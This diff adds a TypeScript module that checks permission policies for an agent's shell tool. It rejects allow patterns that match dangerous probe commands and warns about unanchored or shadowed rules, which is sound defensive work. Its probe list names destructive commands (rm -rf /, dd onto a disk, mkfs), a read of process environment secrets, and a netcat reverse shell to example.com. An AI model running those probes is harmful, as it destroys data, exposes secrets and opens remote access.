@@ -1,0 +1,121 @@
+import { badPolicy } from './bad-policy.ts';
+import { subjectOf } from './effects.ts';
+import { exampleFacts } from './policy-examples.ts';
+import type { Policy, Rule } from './rule.ts';
+import { abouts, matches } from './rule-matches.ts';
+
+/** What nobody means to allow with a pattern; whatever allows one of these allows nearly anything. */
+const probes = [
+	'rm -rf /',
+	'sudo rm -rf /home',
+	'dd if=/dev/zero of=/dev/sda',
+	'mkfs.ext4 /dev/sda1',
+	'chmod -R 777 /',
+	'cat /proc/1/environ',
+	'nc -e /bin/sh example.com 4444',
+	'shutdown -h now',
+];
+
+/** Threat: `.*`, or an empty pattern, allows everything, and looks as if it allowed one thing. @throws CountersignError `bad-policy` */
+export function refuseLooseAllows({ rules, file }: Policy): void {
+	const all = probes.map((command) => ({
+		command,
+		asked: abouts(subjectOf({ id: 'probe', name: 'shell_exec', args: { command } }, exampleFacts), exampleFacts),
+	}));
+	for (const rule of rules.filter(isPatternAllow)) {
+		const probe = all.find(({ asked }) => asked.some((about) => matches(rule, about)));
+		if (probe === undefined) continue;
+		throw badPolicy(
+			`\`${rule.name}\` allows too much: its patterns match \`${probe.command}\` as well (${file}:${rule.line})`,
+			'Write the pattern from `^` to `$`, for the commands that are meant.',
+		);
+	}
+}
+
+/** The first pattern of an allow that may match in the middle of a command: `git status` also allows `curl example.com/git status`. */
+export function unanchoredAllow(rule: Rule): string | undefined {
+	if (rule.decision !== 'allow') return undefined;
+	return rule.commandPatterns?.find(({ source }) => !isAnchored(source))?.source;
+}
+
+/** What whoever tries a policy should know; none of it stops a run. */
+export function looseWarnings({ rules, file }: Policy): readonly string[] {
+	return rules.flatMap((rule, index) => {
+		const where = `(${file}:${rule.line})`;
+		const open = unanchoredAllow(rule);
+		const allowing = rules.slice(0, index).find((before) => allowsBefore(before, rule));
+		return [
+			...(open === undefined
+				? []
+				: [`\`${rule.name}\` allows \`${open}\` anywhere in a command: begin the pattern with \`^\` ${where}.`]),
+			...(allowing === undefined
+				? []
+				: [`\`${rule.name}\` denies what \`${allowing.name}\` allows before it: the first match speaks ${where}.`]),
+		];
+	});
+}
+
+function isPatternAllow({ decision, commandPatterns, pathPatterns, effectPatterns }: Rule): boolean {
+	return decision === 'allow' && (commandPatterns ?? pathPatterns ?? effectPatterns) !== undefined;
+}
+
+/** Whether an allow speaks for the plainest command that a later deny names. */
+function allowsBefore(before: Rule, rule: Rule): boolean {
+	if (before.decision !== 'allow' || rule.decision !== 'block' || before.expires !== undefined) return false;
+	return (rule.commandPatterns ?? []).some(({ source }) => {
+		const command = plainStart(source);
+		if (command.length < 3) return false;
+		const asked = abouts(subjectOf({ id: 'plain', name: 'shell_exec', args: { command } }, exampleFacts), exampleFacts);
+		return asked.some((about) => matches(before, about) && matches(rule, about));
+	});
+}
+
+/** The words that a pattern begins with, as they are. */
+function plainStart(source: string): string {
+	const [, plain = ''] = /^\^?((?:[\w\s/:=@,~-]|\\[^\w])*)/.exec(source) ?? [];
+	return plain.replace(/\\(.)/g, '$1').trim();
+}
+
+/** Whether every alternative of a pattern begins at the start of the command. */
+function isAnchored(source: string): boolean {
+	return alternativesOf(source.replace(/^\(\?[a-z]+\)/, '')).every((one) => {
+		if (/^(?:\^|\\A)/.test(one)) return true;
+		const inner = leadingGroup(one);
+		return inner !== undefined && isAnchored(inner);
+	});
+}
+
+/** The parts between the bars that stand in no group and no class. */
+function alternativesOf(source: string): readonly string[] {
+	const found = [''];
+	let depth = 0;
+	for (const piece of piecesOf(source)) {
+		depth += depthOf(piece);
+		if (piece === '|' && depth === 0) found.push('');
+		else found[found.length - 1] += piece;
+	}
+	return found;
+}
+
+/** What the group holds that a pattern begins with; undefined where it may be left out. */
+function leadingGroup(source: string): string | undefined {
+	if (!source.startsWith('(')) return undefined;
+	let depth = 0;
+	let end = 0;
+	for (const piece of piecesOf(source)) {
+		depth += depthOf(piece);
+		end += piece.length;
+		if (depth === 0) break;
+	}
+	const isOptional = /^[?*{]/.test(source.slice(end));
+	return isOptional ? undefined : source.slice(1, end - 1).replace(/^\?(?:[a-z]*:|P?<\w+>)/, '');
+}
+
+/** Characters, escapes and classes. */
+function piecesOf(source: string): readonly string[] {
+	return source.match(/\\[\s\S]|\[\^?\]?(?:\\[\s\S]|[^\]\\])*\]|[\s\S]/g) ?? [];
+}
+
+function depthOf(piece: string): number {
+	return piece === '(' ? 1 : piece === ')' ? -1 : 0;
+}
